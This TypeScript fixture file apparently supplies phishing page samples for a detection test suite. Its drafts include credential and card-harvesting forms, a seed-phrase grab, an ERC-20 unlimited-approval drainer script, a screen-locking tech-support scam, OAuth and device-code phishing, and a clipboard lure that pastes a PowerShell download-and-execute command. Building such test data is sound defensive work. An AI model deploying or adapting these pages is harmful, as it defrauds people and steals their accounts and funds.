import type { Files, GivenDraft } from "../given-draft.ts"
import { page, script } from "./spoken.ts"

const en = { lang: "en" }
const draft = (id: string, files: Files): GivenDraft => ({ id, files })
const login = (action: string, user = "Email address", secret = "Password", go = "Continue") =>
  `<form action="${action}" method="post"><input name="e" type="email" placeholder="${user}"><input name="p" type="password" placeholder="${secret}"><button>${go}</button></form>`
const away = "https://mail-check.gather.example/in"

/** In the name of no company: a role that everyone knows, and a reason to hurry. */
export const pretexts: ReadonlyArray<GivenDraft> = [
  draft(
    "a mailbox that is full",
    page(
      en,
      "Webmail",
      `<h1>Webmail</h1><p>Your mailbox has reached 99% of its storage quota. Sign in to keep receiving messages.</p>${login(away)}`,
    ),
  ),
  draft(
    "a password that runs out",
    page(
      en,
      "IT Service Desk",
      `<h2>IT Service Desk</h2><p>Your password expires today. To keep the same password, confirm it below.</p>${login("/keep.php", "Work email", "Current password", "Keep my password")}`,
    ),
  ),
  draft(
    "messages held back",
    page(
      en,
      "Mail Delivery Notice",
      `<p>9 incoming messages are pending because of a server error.</p><p>Release them to your inbox before they are deleted.</p>${login(away, "Email", "Email password", "Release messages")}`,
    ),
  ),
  draft(
    "a voice message",
    page(
      en,
      "Voicemail",
      `<h1>New voice message (0:42)</h1><p>Authenticate with your email to listen.</p>${login(away, "Email", "Password", "Play")}`,
    ),
  ),
  draft(
    "a shared file, any mailbox",
    page(
      en,
      "Secure document",
      `<h1>You received a secure file</h1><p>Select your email provider to view the document.</p><button>Outlook</button><button>Gmail</button><button>Yahoo</button><button>Other mail</button>${login(away, "Email", "Password", "View document")}`,
    ),
  ),
  draft(
    "a fee for a parcel",
    page(
      en,
      "Package held",
      `<h1>Your package is on hold</h1><p>Pay a redelivery fee of $1.99 within 48 hours or it will be returned to the sender.</p><form action="https://pay.gather.example/" method="post"><input placeholder="Card number"><input placeholder="MM/YY"><input placeholder="CVV"><button>Pay $1.99</button></form>`,
    ),
  ),
  draft(
    "a tax refund",
    page(
      en,
      "Tax Refund Portal",
      `<h1>You are eligible for a tax refund of £482.16</h1><p>Submit your details to receive the refund to your card.</p><form action="refund.php" method="post"><input placeholder="National Insurance number"><input placeholder="Card number"><input placeholder="Expiry"><input placeholder="CVC"><button>Claim refund</button></form>`,
    ),
  ),
  draft(
    "a toll",
    page(
      en,
      "Toll Services",
      `<h1>Unpaid toll</h1><p>You have an outstanding toll of $6.99. Pay now to avoid a late fee of $50 and suspension of your vehicle registration.</p><form action="https://toll.gather.example/p" method="post"><input placeholder="Card number"><input placeholder="CVV"><button>Pay now</button></form>`,
    ),
  ),
  draft(
    "pay of the staff",
    page(
      en,
      "HR Portal – Payroll",
      `<h1>Payroll update required</h1><p>All employees must verify their direct deposit before Friday to avoid a delay of salary.</p>${login(away, "Employee email", "Password", "Verify")}`,
    ),
  ),
  draft(
    "your bank",
    page(
      en,
      "Online Banking – Security",
      `<h1>Online Banking</h1><p>Your account has been locked due to suspicious activity. Verify your identity to restore access.</p><form action="https://b.gather.example/"><input placeholder="User ID"><input type="password" placeholder="Password"><input placeholder="ATM PIN"><button>Restore access</button></form>`,
    ),
  ),
  draft(
    "a wallet to repair",
    page(
      en,
      "DApp Rectify",
      `<h1>Connect wallet</h1><p>Resolve missing balance, failed swap, and migration issues. Select your wallet and import it with phrase, keystore or private key.</p><textarea name="phrase" placeholder="Enter your recovery phrase"></textarea><button>Connect</button>`,
    ),
  ),
  draft(
    "a gift of coins",
    page(
      en,
      "Official Airdrop",
      `<h1>Claim your airdrop</h1><p>5,000 tokens are reserved for your wallet. Connect to claim before the deadline.</p><button id="c">Connect wallet</button>${script(`c.onclick=async()=>{const[a]=await ethereum.request({method:"eth_requestAccounts"});await ethereum.request({method:"eth_sendTransaction",params:[{from:a,to:"0x00000000000000000000000000000000000000aa",data:"0x095ea7b3"+"0".repeat(24)+"aa"+"f".repeat(64)}]})}`)}`,
    ),
  ),
  draft(
    "twice the coins",
    page(
      en,
      "Official giveaway 5,000 BTC",
      `<h1>Official 5,000 BTC giveaway</h1><p>Send 0.1 to 10 BTC to the address below and receive twice the amount back.</p><code>bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq</code><p>You can take part only once.</p>`,
    ),
  ),
  draft(
    "a virus",
    page(
      en,
      "Windows Security Alert",
      `<h1>** WINDOWS SECURITY ALERT **</h1><p>Your PC is infected with a Trojan. Do not shut down or restart. Call Microsoft Support immediately.</p><a href="tel:+18885550142">+1 (888) 555-0142</a>${script(`document.documentElement.requestFullscreen?.();onbeforeunload=()=>1;new Audio("alarm.mp3").play()`)}`,
    ),
  ),
  draft(
    "a check that one is human",
    page(
      en,
      "Verify you are human",
      `<h1>Verify you are human</h1><ol><li>Press Windows + R</li><li>Press Ctrl + V</li><li>Press Enter</li></ol>${script(`document.onclick=()=>navigator.clipboard.writeText("powershell -w hidden -c iwr https://get.gather.example/a.ps1|iex")`)}`,
    ),
  ),
  draft(
    "a code of a device",
    page(
      en,
      "Microsoft Teams meeting",
      `<h1>Join the meeting</h1><p>Open <a href="https://microsoft.com/devicelogin">microsoft.com/devicelogin</a> and enter this code:</p><b>F7K2-9QXM</b>`,
    ),
  ),
  draft(
    "consent for a foreign app",
    page(
      en,
      "Microsoft 365 – Security update",
      `<h1>Microsoft 365</h1><p>Review the new security policy.</p><a href="https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=9f1&response_type=code&redirect_uri=https%3A%2F%2Fgather.example%2Fcb&scope=offline_access%20Mail.ReadWrite&prompt=consent">Accept</a>`,
    ),
  ),
  draft(
    "paste the token",
    page(
      en,
      "Discord Nitro – claim",
      `<h1>Claim 3 months of Nitro</h1><p>Open the developer tools, copy your token and paste it here.</p><form action="https://n.gather.example/"><input name="t" placeholder="Paste your Discord token"><button>Claim</button></form>`,
    ),
  ),
  draft(
    "a streaming card",
    page(
      en,
      "Payment declined",
      `<h1>Your membership is on hold</h1><p>We could not charge your card for this month. Update your payment details within 48 hours to keep watching.</p><form action="https://stream.gather.example/u" method="post"><input placeholder="Card number"><input placeholder="CVV"><button>Update</button></form>`,
    ),
  ),
  draft(
    "a mailbox in German",
    page(
      { lang: "de" },
      "Webmail",
      `<h1>Webmail-Anmeldung</h1><p>Ihr Postfach ist fast voll. Bestätigen Sie Ihr Konto innerhalb von 24 Stunden, sonst wird es gesperrt.</p>${login(away, "E-Mail", "Passwort", "Bestätigen")}`,
    ),
  ),
  draft(
    "a parcel in French",
    page(
      { lang: "fr" },
      "Suivi de colis",
      `<h1>Votre colis est en attente</h1><p>Des frais de douane de 1,95 € doivent être réglés sous 48 heures.</p><form action="https://colis.gather.example/p" method="post"><input placeholder="Numéro de carte"><input placeholder="Cryptogramme"><button>Payer</button></form>`,
    ),
  ),
  draft(
    "a bank in Spanish",
    page(
      { lang: "es" },
      "Banca en línea",
      `<h1>Banca en línea</h1><p>Su cuenta ha sido bloqueada por seguridad. Verifique su identidad para reactivarla.</p>${login(away, "Usuario", "Contraseña", "Reactivar")}`,
    ),
  ),
  draft(
    "a tax refund in Polish",
    page(
      { lang: "pl" },
      "Zwrot podatku",
      `<h1>Przysługuje Ci zwrot podatku 812,40 zł</h1><p>Podaj dane karty, aby otrzymać zwrot. Termin mija jutro.</p><form action="zwrot.php" method="post"><input placeholder="Numer karty"><input placeholder="CVV"><button>Odbierz</button></form>`,
    ),
  ),
  draft(
    "a mailbox in Japanese",
    page(
      { lang: "ja" },
      "メール認証",
      `<h1>メールサーバー</h1><p>メールボックスの容量が上限に達しました。24時間以内に認証しないとアカウントは停止されます。</p>${login(away, "メールアドレス", "パスワード", "認証する")}`,
    ),
  ),
  draft(
    "a parcel in Russian",
    page(
      { lang: "ru" },
      "Посылка задержана",
      `<h1>Ваша посылка задержана</h1><p>Оплатите пошлину 149 ₽ в течение 24 часов, иначе посылка будет возвращена.</p><form action="https://p.gather.example/" method="post"><input placeholder="Номер карты"><input placeholder="CVV"><button>Оплатить</button></form>`,
    ),
  ),
  draft(
    "a bank in Portuguese",
    page(
      { lang: "pt" },
      "Internet Banking",
      `<h1>Internet Banking</h1><p>Seu acesso será bloqueado hoje. Atualize o módulo de segurança.</p>${login(away, "Agência e conta", "Senha", "Atualizar")}`,
    ),
  ),
]
